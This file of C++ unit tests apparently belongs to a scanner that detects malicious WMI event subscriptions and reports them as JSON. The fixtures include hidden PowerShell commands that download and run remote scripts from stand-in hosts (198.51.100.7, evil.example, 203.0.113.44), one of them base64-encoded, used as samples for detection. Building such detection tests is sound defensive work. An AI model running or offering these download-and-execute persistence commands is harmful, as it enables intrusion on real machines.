        for (const auto& entry : wmisub_test::load_corpus(path)) {
            if (entry.filter) s.add(*entry.filter, entry.id);
            if (entry.consumer) s.add(*entry.consumer, entry.id);
        }
    }
    REQUIRE(s.filters.size() > 30);
    const std::string text = to_json_text(s);
    auto back = snapshot_from_json_text(text);
    REQUIRE_MESSAGE(back, back.error().to_string());
    check_same_snapshot(s, *back);
    CHECK(to_json_text(*back) == text);
}

TEST_CASE("a value a source delivered with an unexpected type is reported once, not again on every re-read") {
    snapshot s;
    instance c = make("CommandLineEventConsumer");
    c.set("Name", value::string("C")).set("KillTimeout", value::string("soon"));  // as a sloppy source might
    s.add(c, "source");
    REQUIRE(s.errors.size() == 1);  // the typing warning of snapshot::add
    const std::string text = to_json_text(s);
    json_read_options strict;
    strict.strict = true;
    auto back = snapshot_from_json_text(text, strict);  // written typed on purpose: not an error when read
    REQUIRE_MESSAGE(back, back.error().to_string());
    CHECK(back->errors.size() == 1);
    CHECK(header_of(back->consumers[0]).extra_property("KillTimeout") != nullptr);
    CHECK(to_json_text(*back) == text);
}

TEST_CASE("wmisub.report/1: assessments with their objects, trigger, risk and findings, and the snapshot's errors") {
    mock_collector source;
    source.interval_timer("T", 60000)
        .filter("Timer", "SELECT * FROM __TimerEvent WHERE TimerID = 'T'")
        .command_line_consumer("Run", "powershell.exe -nop -w hidden -c \"iex (iwr http://198.51.100.7/a)\"")
        .bind("Timer", "Run")
        .error_in("root\\other", make_error(errc::access_denied, "namespace could not be read"));
    auto snap = source.collect({});
    REQUIRE(snap);
    const subscription_graph graph(*snap);
    const auto results = assess(graph, rule_catalog::builtin());
    const json_value report = report_to_json(results, *snap);
    CHECK(report["schema"] == "wmisub.report/1");
    REQUIRE(report["subscriptions"].size() == 1);
    const json_value& entry = report["subscriptions"][0];
    CHECK(entry["state"] == "bound");
    CHECK(entry["filter"]["name"] == "Timer");
    CHECK(entry["trigger"]["kind"] == "interval_timer");
    CHECK(entry["trigger"]["timer_id"] == "T");
    CHECK(entry["trigger"]["timer_interval_ms"] == 60000);
    CHECK(entry["trigger"]["description"].get<std::string>().find("every") != std::string::npos);
    CHECK(entry["risk"]["severity"] == "critical");
    REQUIRE_FALSE(entry["findings"].empty());
    CHECK(entry["findings"][0]["rule"].get<std::string>().rfind("WMISUB-", 0) == 0);
    CHECK_FALSE(entry["findings"][0]["evidence"].empty());
    REQUIRE(report["errors"].size() == 1);
    CHECK(report["errors"][0]["namespace"] == "root\\other");
    CHECK(to_json(results[0]) == entry);
}


TEST_CASE("snapshot JSON keeps annotations, object by object and by path, and why a collection stopped") {
    instance filter;
    filter.namespace_path = "root\\subscription";
    filter.class_name = "__EventFilter";
    filter.set("Name", value::string("F")).set("Query", value::string("SELECT * FROM __TimerEvent"));
    filter.origin.kind = source_kind::mof;
    filter.origin.annotations.push_back(wmisub_test::make_note(annotation_kind::autorecover, "#pragma autorecover", {"a.mof", 1, 1, source_location::npos}));
    filter.origin.annotations.push_back(wmisub_test::make_note(annotation_kind::deleted, {}));
    snapshot s;
    s.add(filter);
    s.annotations.push_back({"__EventFilter.Name=\"gone\"", wmisub_test::make_note(annotation_kind::deleted, "deleteinstance", {"b.mof", 4, 2, 90})});
    s.stopped = make_error(errc::timeout, "collection deadline passed");
    const std::string text = to_json_text(s);
    auto back = snapshot_from_json_text(text);
    REQUIRE_MESSAGE(back, back.error().to_string());
    REQUIRE(back->filters.size() == 1);
    CHECK(back->filters[0].origin.annotations == s.filters[0].origin.annotations);
    CHECK(back->annotations == s.annotations);
    REQUIRE(back->partial());
    CHECK(back->stopped->code == errc::timeout);

    json_value doc = json_value::parse(text);
    doc.erase("checksum");
    doc["filters"][0]["provenance"]["annotations"][0]["kind"] = "teleported";
    auto lenient = snapshot_from_json_text(doc.dump());  // the object is listed as an error, the rest is read
    REQUIRE(lenient);
    CHECK(lenient->filters.empty());
    REQUIRE_FALSE(lenient->errors.empty());
    CHECK(lenient->errors.back().error.location.source.find("/filters/0/provenance/annotations/0/kind") != std::string::npos);
}

TEST_CASE("reports carry what the payload really does: decoded layers in full, indicators and observables") {
    // -Enc of: IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1'); certutil -hashfile x <sha256>
    const std::string inner = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example:8080/a.ps1'); "
                              "$h = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'";
    std::string utf16;
    for (const char c : inner) {
        utf16 += c;
        utf16 += '\0';
    }
    mock_collector source;
    source.filter("F", "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'")
        .command_line_consumer("C", "powershell.exe -nop -w hidden -enc " + base64_encode(utf16) + " \\\\10.1.2.3\\share\\x.exe")
        .bind("F", "C");
    auto snap = source.collect();
    REQUIRE(snap);
    const subscription_graph graph(*snap);
    const auto results = assess(graph, rule_catalog::builtin());
    const json_value report = report_to_json(results, graph.source());
    const json_value& payload = report["subscriptions"][0]["payload"];
    REQUIRE(payload.is_object());
    CHECK(payload["executable"]["raw"] == "powershell.exe");
    REQUIRE(payload["layers"].size() >= 1);
    CHECK(payload["layers"][0]["encoding"] == "base64_utf16le");
    CHECK(payload["layers"][0]["text"] == inner);  // in full, never decoded by hand
    const json_value& seen = payload["observables"];
    CHECK(seen["urls"][0] == "http://evil.example:8080/a.ps1");
    CHECK(seen["domains"][0] == "evil.example");
    CHECK(seen["hashes"][0] == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    bool unc = false;
    for (const auto& p : seen["unc_paths"]) unc = unc || p.get<std::string>().find("10.1.2.3") != std::string::npos;
    CHECK(unc);
    CHECK_FALSE(payload["indicators"].empty());
    CHECK(std::find(payload["capabilities"].begin(), payload["capabilities"].end(), "downloads") != payload["capabilities"].end());
}

TEST_CASE("report_writer streams the report_to_json document, bounded, one subscription at a time") {
    mock_collector source;
    source.filter("F", "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'")
        .script_consumer("S", "x = \"" + std::string(5000, 'A') + "\"\nCreateObject(\"WScript.Shell\").Run \"calc\"")
        .bind("F", "S", "ActiveScriptEventConsumer")
        .filter("Lonely", "SELECT * FROM __TimerEvent")
        .error_in("root\\x", make_error(errc::access_denied, "denied"));
    auto snap = source.collect();
    REQUIRE(snap);
    const engine scan_engine;
    scanner scan(scan_engine);
    const subscription_graph graph = scan.build_graph(*snap);
    const std::vector<assessment> results = scan.assess_all(graph);
    REQUIRE(results.size() == 2);

    for (int indent : {2, -1, 0}) {
        std::string text;
        std::size_t pieces = 0;
        report_writer writer([&](std::string_view piece) {
            text += piece;
            ++pieces;
            return true;
        }, {indent, 0});
        scan_summary summary;
        summary.entries = summary.assessed = 2;
        for (const assessment& a : results) CHECK(writer.write(a));
        REQUIRE(writer.finish(graph.source(), &summary));
        CHECK(pieces >= 4);  // opening, one per subscription, closing: never one whole text
        const json_value doc = json_value::parse(text);
        const json_value whole = report_to_json(results, graph.source());
        CHECK(doc["schema"] == whole["schema"]);
        CHECK(doc["subscriptions"] == whole["subscriptions"]);
        CHECK(doc["errors"] == whole["errors"]);
        CHECK(doc["summary"]["status"] == "complete");
        CHECK(doc["summary"]["partial"] == false);
        if (indent == 2) {  // laid out exactly as the document built whole
            const std::string expected = whole.dump(2);
            CHECK(text.substr(0, text.find("\"errors\"")) == expected.substr(0, expected.find("\"errors\"")));
        }
        CHECK_FALSE(writer.finish(graph.source()));  // once only
    }

    std::string capped;
    report_writer small([&](std::string_view piece) {
        capped += piece;
        return true;
    }, {-1, 100});
    CHECK(small.write(results[0]));
    REQUIRE(small.finish(graph.source()));
    const json_value doc = json_value::parse(capped);
    const std::string script = doc["subscriptions"][0]["consumer"]["properties"]["ScriptText"].get<std::string>();
    CHECK(script.size() < 200);
    CHECK(script.find("more bytes]") != std::string::npos);
    CHECK(results[0].facts.consumer != nullptr);  // the assessment keeps the full text
    CHECK(doc["summary"].contains("status") == false);

    std::size_t calls = 0;
    report_writer broken([&](std::string_view) { return ++calls < 2; });
    CHECK_FALSE(broken.write(results[0]));
    CHECK_FALSE(broken.write(results[1]));
    const auto failed = broken.finish(graph.source());
    REQUIRE_FALSE(failed);
    CHECK(failed.error().code == errc::io_error);
    CHECK(calls == 2);  // nothing more is written once the output failed
}

namespace {

// Subscriptions whose text exercises every path of the report writer: control characters,
// quotes, invalid UTF-8, non-ASCII, every value type, custom consumers, orphans and
// dangling bindings, annotations, a timer.
snapshot awkward_subscriptions() {
    mock_collector source;
    source.created_by("S-1-5-21-1-2-3-1001")
        .filter("Ctl\x01\t\"q\"\\", "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process' "
                                     "AND TargetInstance.Name = 'caf\xC3\xA9.exe'")
        .command_line_consumer("Ctl\x01\t\"q\"\\", "cmd.exe /c \"echo \x1f\x7f \xFF\xFE broken \\\\ \xE6\x97\xA5\xE6\x9C\xAC\" \r\n")
        .bind("Ctl\x01\t\"q\"\\", "Ctl\x01\t\"q\"\\")
        .filter("Timer", "SELECT * FROM __TimerEvent WHERE TimerId = 'T1'")
        .script_consumer("Orphan\xFF", std::string(300, 'x') + "\nGetObject(\"winmgmts:\").Get(\"Win32_Process\").Create \"calc\"")
        .interval_timer("T1", 60000)
        .bind("Missing", "Timer");
    instance custom;
    custom.namespace_path = "root\\subscription";
    custom.class_name = "Evil\xC3\x89ventConsumer";
    custom.derivation = {"__EventConsumer", "__IndicationRelated"};
    custom.key_names = {"Id"};
    embedded_object inner;
    inner.class_name = "Inner";
    inner.properties.push_back({"Depth", value::real(2.5)});
    inner.properties.push_back({"Note", value::string("tab\there")});
    custom.set("Id", value::string("x\x02y"))
        .set("Ratio", value::real(std::numeric_limits<double>::quiet_NaN()))
        .set("Big", value::uint(18446744073709551615ull))
        .set("Neg", value::sint(-42, cim_type::sint32))
        .set("Letter", value::char16(u'\u00e9'))
        .set("When", value::datetime(dmtf("20240101123000.000000+060")))
        .set("Where", value::reference("\\\\.\\root\\cimv2:Win32_Process.Handle=\"4\""))
        .set("Blob", value::object(inner))
        .set("Empty", value::array(cim_type::string, {}))
        .set("Mixed", value::strings({"a", "b\xFF", "\xC3\xA9"}))
        .set("Nothing", value::null(cim_type::string));
    source.add(custom);
    instance crowded;  // more properties than the writer scans by hand, with repeated names
    crowded.namespace_path = "root\\subscription";
    crowded.class_name = "CrowdedConsumer";
    crowded.derivation = {"__EventConsumer"};
    crowded.key_names = {"Name"};
    crowded.properties.push_back({"Name", value::string("crowded")});
    for (int i = 0; i < 40; ++i) crowded.properties.push_back({"P" + std::to_string(i % 37), value::sint(i)});
    crowded.properties.push_back({"Bad\xFF", value::string("first")});
    crowded.properties.push_back({"Bad\xFE", value::string("same name once repaired")});
    source.add(crowded);
    auto snap = source.collect();
    REQUIRE(snap);
    snap->annotations.push_back({"__EventFilter.Name=\"Timer\"", wmisub_test::make_note(annotation_kind::autorecover, "pragma \x01", {"a.mof", 3, 1, 20})});
    return std::move(*snap);
}

// The document report_writer writes for these assessments, with the given layout.
std::string written_report(const std::vector<assessment>& results, const snapshot& snap, int indent, std::size_t cap) {
    std::string text;
    report_writer writer([&](std::string_view piece) {
        text += piece;
        return true;
    }, {indent, cap});
    for (const assessment& a : results) CHECK(writer.write(a));
    CHECK(writer.finish(snap));
    return text;
}

// What the writer must match: the subscriptions of the document built whole, as nlohmann dumps
// them (invalid UTF-8 replaced, as every wmisub writer does).
std::string dumped_subscriptions(const std::vector<assessment>& results, const snapshot& snap, int indent) {
    const std::string whole = report_to_json(results, snap).dump(indent, ' ', false, json_value::error_handler_t::replace);
    return whole.substr(0, whole.find("\"errors\""));
}

}  // namespace

TEST_CASE("report_writer writes each subscription byte for byte as the document writers do") {
    std::vector<snapshot> sources;
    sources.push_back(awkward_subscriptions());
    if (auto samples = mof_collector({"examples/samples"}).collect({}); samples) sources.push_back(std::move(*samples));
    for (const char* corpus : {"corpus/attacks.jsonl", "corpus/benign.jsonl"}) {
        const auto path = wmisub_test::shared_data_path(corpus);
        if (!path) continue;
        mock_collector all;
        for (const auto& e : wmisub_test::load_corpus(*path)) {
            if (e.filter) all.add(*e.filter);
            if (e.consumer) all.add(*e.consumer);
        }
        if (auto snap = all.collect(); snap) sources.push_back(std::move(*snap));
    }
    const engine scan_engine;
    for (const snapshot& snap : sources) {
        scanner scan(scan_engine);
        const subscription_graph graph = scan.build_graph(snap);
        const std::vector<assessment> results = scan.assess_all(graph);
        REQUIRE_FALSE(results.empty());
        for (int indent : {2, -1, 4, 0}) {
            CAPTURE(indent);
            const std::string text = written_report(results, graph.source(), indent, 0);
            const std::string expected = dumped_subscriptions(results, graph.source(), indent);
            CHECK(text.substr(0, text.find("\"errors\"")) == expected);
        }
        // Capped: every string longer than the cap is cut as the document would be cut.
        const json_value capped = json_value::parse(written_report(results, graph.source(), 2, 40));
        REQUIRE(capped.contains("subscriptions"));
        const json_value whole = report_to_json(results, graph.source());
        REQUIRE(capped["subscriptions"].size() == whole["subscriptions"].size());
        for (std::size_t i = 0; i < whole["subscriptions"].size(); ++i) {
            const json_value& full = whole["subscriptions"][i]["consumer"];
            const json_value& cut = capped["subscriptions"][i]["consumer"];
            if (full.is_null()) continue;
            for (const auto& [name, v] : full["properties"].items()) {
                if (!v.is_string()) continue;
                const std::string& original = v.get_ref<const std::string&>();
                const std::string& shown = cut["properties"][name].get_ref<const std::string&>();
                if (original.size() <= 40) {
                    CHECK(shown == original);
                } else {
                    CHECK(shown.find(" more bytes]") != std::string::npos);
                    CHECK(original.starts_with(shown.substr(0, shown.find("\xE2\x80\xA6"))));
                }
            }
        }
    }
}

TEST_CASE("report_writer marks a report partial when the collection stopped early") {
    snapshot s;
    s.stopped = make_error(errc::limit_exceeded, "too many objects");
    std::string text;
    report_writer writer([&](std::string_view piece) {
        text += piece;
        return true;
    });
    REQUIRE(writer.finish(s));
    const json_value doc = json_value::parse(text);
    CHECK(doc["subscriptions"].empty());
    CHECK(doc["summary"]["partial"] == true);
    CHECK(doc["summary"]["collection_stopped"].get<std::string>().find("too many objects") != std::string::npos);
}

TEST_CASE("report: a cut evidence excerpt points at its whole text in the same subscription entry") {
    std::string script = "Dim s\n";
    for (int i = 0; i < 30; ++i) script += "s = s & \"line " + std::to_string(i) + " of padding text\"\n";
    script += "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr http://203.0.113.44/x.ps1 | iex\", 0\n";
    for (int i = 0; i < 30; ++i) script += "s = s & \"more " + std::to_string(i) + " padding\"\n";
    mock_collector source;
    source.filter("F", "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'")
        .script_consumer("S", script)
        .bind("F", "S", "ActiveScriptEventConsumer");
    auto snap = source.collect();
    REQUIRE(snap);
    const engine scan_engine;
    scanner scan(scan_engine);
    const subscription_graph graph = scan.build_graph(*snap);
    const std::vector<assessment> results = scan.assess_all(graph);
    const json_value report = report_to_json(results, graph.source());
    const json_value& entry = report["subscriptions"][0];
    std::size_t pointed = 0;
    for (const json_value& fi : entry["findings"]) {
        for (const json_value& e : fi["evidence"]) {
            if (!e.contains("text_at")) {
                CHECK_FALSE(e.contains("offset"));
                continue;
            }
            ++pointed;
            const json_value& whole = entry.at(json_value::json_pointer(e["text_at"].get<std::string>()));
            REQUIRE(whole.is_string());
            std::string body = e["excerpt"].get<std::string>();
            const std::string mark = "\xE2\x80\xA6";
            if (body.starts_with(mark)) body.erase(0, mark.size());
            if (body.ends_with(mark)) body.erase(body.size() - mark.size());
            CHECK(whole.get<std::string>().find(body) != std::string::npos);
            CHECK(e["offset"].get<std::size_t>() < whole.get<std::string>().size());
        }
    }
    CHECK(pointed > 0);
}
